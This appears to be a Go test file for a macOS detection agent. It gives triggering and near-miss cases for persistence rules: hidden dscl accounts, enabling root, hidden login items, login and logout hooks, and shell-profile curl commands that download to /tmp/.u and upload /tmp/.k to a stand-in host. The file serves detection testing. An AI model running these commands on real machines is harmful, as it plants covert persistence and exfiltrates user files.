package agent

import (
	"slices"
	"time"
)

func persistenceStories() []story {
	return slices.Concat(
		about("persistence_account_creation_hide_at_logon",
			fires("a hidden account", func(d *desk) { d.sudo("dscl", ".", "create", "/Users/helper", "IsHidden", "1") }, "/usr/bin/dscl < sudo"),
			near("shown again", func(d *desk) { d.sudo("dscl", ".", "create", "/Users/helper", "IsHidden", "0") }),
			near("another attribute", func(d *desk) { d.sudo("dscl", ".", "create", "/Users/helper", "PrimaryGroupID", "1") }),
			near("asks only", func(d *desk) { d.types("dscl", ".", "read", "/Users/helper", "IsHidden") }),
		),
		about("persistence_enable_root_account",
			fires("on", func(d *desk) { d.types("dsenableroot", "-u", "sam") }, "/usr/sbin/dsenableroot < zsh"),
			near("off", func(d *desk) { d.types("dsenableroot", "-d", "-u", "sam") }),
		),
		about("persistence_creation_hidden_login_item_osascript",
			fires("an implant", func(d *desk) {
				d.osascript(d.implant(), `tell application "System Events" to make login item at end with properties {path:"/Applications/Coin Notes.app", hidden:true}`)
			}, "/usr/bin/osascript < updated"),
			near("for all to see", func(d *desk) {
				d.osascript(d.implant(), `tell application "System Events" to make login item at end with properties {path:"/Applications/Coin Notes.app", hidden:false}`)
			}),
			near("another thing hidden", func(d *desk) { d.osascript(d.implant(), `make new window with properties {hidden:true}`) }),
		),
		about("persistence_curl_execution_via_shell_profile",
			fires("a window opens", profile(0, "curl", "-fsSL", "-o", "/tmp/.u", "https://updates.example.com/u"), "/usr/bin/curl < zsh"),
			fires("and something is sent", profile(9*time.Second, "curl", "-F", "f=@/tmp/.k", "https://updates.example.com/up"), "/usr/bin/curl < zsh"),
			near("the user, later", profile(11*time.Second, "curl", "-fsSL", "-o", "/tmp/.u", "https://updates.example.com/u")),
			near("to no file", profile(0, "curl", "-fsSL", "https://updates.example.com/motd")),
			near("a shell in a shell", func(d *desk) {
				d.run(d.start(d.shell(), "zsh", "-l"), "curl", "-fsSL", "-o", "/tmp/.u", "https://updates.example.com/u")
			}),
			near("another process while a window opens", func(d *desk) {
				implant := d.implant()
				d.Terminal()
				d.run(implant, "curl", "-fsSL", "-o", "/tmp/.u", "https://updates.example.com/u")
			}),
		),
	)
}

func plugInStories() []story {
	return slices.Concat(
		about("persistence_finder_sync_plugin_pluginkit",
			fires("the user's shell", func(d *desk) { d.types("pluginkit", "-e", "use", "-i", "com.coin-notes.sync") }, "/usr/bin/pluginkit < zsh"),
			fires("an implant", func(d *desk) { d.run(d.implant(), "pluginkit", "-e", "use", "-i", "com.coin-notes.sync") }, "/usr/bin/pluginkit < updated"),
			near("off", func(d *desk) { d.types("pluginkit", "-e", "ignore", "-i", "com.coin-notes.sync") }),
			near("a bought app", func(d *desk) {
				d.run(d.app("/Applications/Dropbox.app/Contents/MacOS/Dropbox"), "pluginkit", "-e", "use", "-i", "com.getdropbox.dropbox.garcon")
			}),
		),
		about("persistence_login_logout_hooks_defaults",
			fires("behind sudo", func(d *desk) { d.sudo("defaults", "write", loginwindow, "LoginHook", implant) }, "/usr/bin/defaults < sudo").
				beside("hook-set: /usr/bin/defaults < sudo"),
			fires("an implant, as the user", func(d *desk) { d.run(d.implant(), "defaults", "write", loginwindow, "LogoutHook", implant) },
				"/usr/bin/defaults < updated").beside("hook-set: /usr/bin/defaults < updated"),
			near("the management agent's own", func(d *desk) {
				d.run(d.daemon("com.jamf.management.daemon", jamfBinary, "manage"), "defaults", "write", rootPrefs, "LoginHook", jamfLogin)
			}),
			near("asks only", func(d *desk) { d.sudo("defaults", "read", loginwindow, "LoginHook") }),
			near("another key", func(d *desk) { d.sudo("defaults", "write", loginwindow, "LoginwindowText", "LoginHook of the lab") }),
		),
	)
}

// profile opens a window whose shell runs a command after a while.
func profile(after time.Duration, command ...string) func(*desk) {
	return func(d *desk) {
		zsh := d.Terminal()
		d.Advance(after)
		d.run(zsh, command...)
	}
}
